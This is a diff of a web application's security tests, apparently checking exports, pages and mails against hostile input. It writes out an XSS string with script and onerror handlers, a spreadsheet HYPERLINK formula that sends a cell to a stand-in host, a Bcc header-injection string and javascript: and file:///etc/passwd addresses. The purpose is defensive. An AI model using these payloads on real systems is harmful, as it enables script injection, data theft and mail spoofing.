@@ -2,7 +2,7 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import { operationsOf } from '#kernel/contract/router.ts';
 import { makeTestAccount } from '#tests/support/accounts.ts';
 import { cellsOf, isFormula } from '#tests/support/csv.ts';
-import { type TestClient, testHouse } from '#tests/support/house.ts';
+import { testHouse } from '#tests/support/house.ts';
 import { markupOf } from '#tests/support/markup.ts';
 import { open } from '#tests/support/page.ts';
 import { type Applied, apply, confirm, LOCAL_CHECKS, openProgram, requiring } from '#tests/support/program.ts';
@@ -14,7 +14,7 @@ const MARK = 'zqx';
 /** Leaves an attribute, a text box, a title, a comment; brings an element, a handler, a script, an address that runs, and Liquid. */
 const MARKUP = `${MARK} '"></textarea></title>--><${MARK}-a ${MARK}=1 onclick=${MARK}()><script>${MARK}()</script><img src=${MARK} onerror=${MARK}()><a href="javascript:${MARK}()">a</a>{{ "${MARK}" | append: "-run" }}`;
 /** A spreadsheet would ask an address of the stranger's for it. */
-const FORMULA = `=HYPERLINK("http://${MARK}.example/"&A1,"${MARK}")`;
+const FORMULA = `=HYPERLINK("//${MARK}.example/"&A1,"${MARK}")`;
 /** Would be a header of its own where lines of a header are not kept together. */
 const HEADER = `${MARK} a\r\nBcc: everybody@${MARK}.example\r\nX-Zqx: 1\r\n\r\nb`;
 const TEXTS = { markup: MARKUP, formula: FORMULA, header: HEADER } as const;
@@ -90,6 +90,8 @@ async function applyWith(text: string): Promise<void> {
     await house.work();
     const { agreement } = await stranger.programs.application({ key });
     await stranger.programs.acceptAgreement({ key, version: agreement?.version ?? '', signedName: text.slice(0, 200) });
+    await house.work();
+    await staff.confirmBooking({ id, reference: text.slice(0, 200) });
   });
   // The others show nothing that this one does not: the tables and headers of one are enough.
   if (text !== MARKUP) return;
@@ -248,37 +250,39 @@ describe('mails', () => {
 });
 
 describe('tables that are exported', () => {
-  /** Every operation that answers CSV. */
-  const EXPORTS: Record<string, (client: TestClient) => Promise<string>> = {
-    'audit.exportLog': async (client) => (await client.audit.exportLog({})).text,
-    'community.exportPeople': async (client) => (await client.community.exportPeople({})).text,
-    'operating.exportJobs': async (client) => (await client.operating.exportJobs({})).csv,
-    'programs.exportApplications': async (client) => (await client.programs.exportApplications({})).csv,
-    'programs.exportCoupons': async (client) => (await client.programs.exportCoupons({ program })).csv,
-    'webhooks.exportDeliveries': async (client) =>
-      (await client.webhooks.exportDeliveries({ endpoint: (await client.webhooks.endpoints({})).rows[0]?.id ?? '' }))
-        .csv,
+  /** Every operation that answers a table; what the one for a person answers is JSON. */
+  const exports = operations.filter(({ name }) => /\.export[A-Z]/.test(name) && name !== 'community.exportPerson');
+  /** What those ask for that cannot do without. */
+  const inputOf = async (name: string): Promise<object> => {
+    if (name === 'programs.exportCoupons' || name === 'programs.exportMembers') return { program };
+    if (name === 'webhooks.exportDeliveries') return { endpoint: (await owner.webhooks.endpoints({})).rows[0]?.id };
+    return {};
   };
 
-  test('are all read here', () => {
-    const named = operations
-      .map(({ name }) => name)
-      .filter((name) => /\.export[A-Z]/.test(name) && name !== 'community.exportPerson');
-    expect(named.toSorted()).toEqual(Object.keys(EXPORTS));
-  });
+  test('are some', () => expect(exports.length).toBeGreaterThan(5));
 
-  test.each(Object.keys(EXPORTS))('%s holds no formula, and every cell stays in its place', async (name) => {
-    const csv = (await EXPORTS[name]?.(owner)) ?? '';
-    const lines = cellsOf(csv);
-    expect(lines.length).toBeGreaterThan(1);
-    for (const line of lines) {
-      expect(line.length, line.join(' | ').slice(0, 300)).toBe(lines[0]?.length);
-      expect(line.filter(isFormula)).toEqual([]);
-    }
-    // Where semicolons part cells, what stands behind one begins a cell as well.
-    for (const bare of csv.replace(/"(?:[^"]|"")*"/g, '""').split(/[,;\r\n]/))
-      expect(isFormula(bare), bare).toBe(false);
-  });
+  test.each(exports.map((each) => [each.name, each] as const))(
+    '%s holds no formula, and every cell stays in its place',
+    async (name, { path }) => {
+      const response = await house.request(`/rpc/${path.join('/')}`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
+        body: JSON.stringify({ json: await inputOf(name) }),
+      });
+      const { json } = (await response.json()) as { json: { csv?: string; text?: string } };
+      expect(response.status, JSON.stringify(json)).toBe(200);
+      const csv = json.csv ?? json.text ?? '';
+      const lines = cellsOf(csv);
+      expect(lines.length).toBeGreaterThan(1);
+      for (const line of lines) {
+        expect(line.length, line.join(' | ').slice(0, 300)).toBe(lines[0]?.length);
+        expect(line.filter(isFormula)).toEqual([]);
+      }
+      // Where semicolons part cells, what stands behind one begins a cell as well.
+      for (const bare of csv.replace(/"(?:[^"]|"")*"/g, '""').split(/[,;\r\n]/))
+        expect(isFormula(bare), bare).toBe(false);
+    },
+  );
 
   test('and the hostile texts were in them', async () => {
     const { csv } = await owner.programs.exportApplications({});
@@ -299,6 +303,25 @@ test.each([
 ])('%s is no address of a project', async (namespaceUrl) => {
   await expect(apply(house, 'nowhere', { namespaceUrl })).rejects.toMatchObject({ code: 'INVALID' });
 });
+
+test.each([
+  { applicantName: 'Win at https://evil.example' },
+  { project: 'Pay now: http://evil.example' },
+  { project: 'See WWW.evil.example' },
+])('%j would be an advertisement in a mail of ours', async (change) => {
+  await expect(apply(house, 'spam', change)).rejects.toMatchObject({ code: 'INVALID' });
+});
+
+test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
+  '%s is no address of a shop',
+  async (checkoutUrl) => {
+    const { policy, policyVersion } = await owner.programs.getProgram({ program });
+    const changed = { ...policy, benefit: { ...policy.benefit, checkoutUrl } };
+    await expect(
+      owner.programs.publishPolicy({ program, basedOn: policyVersion, policy: changed }),
+    ).rejects.toMatchObject({ code: 'INVALID' });
+  },
+);
 
 test('the page for addresses that lead nowhere holds nothing of a stranger either', async () => {
   for (const path of [`/${encodeURIComponent(MARKUP)}`, `//${MARK}.example/a`, `/\\${MARK}.example/a`]) {
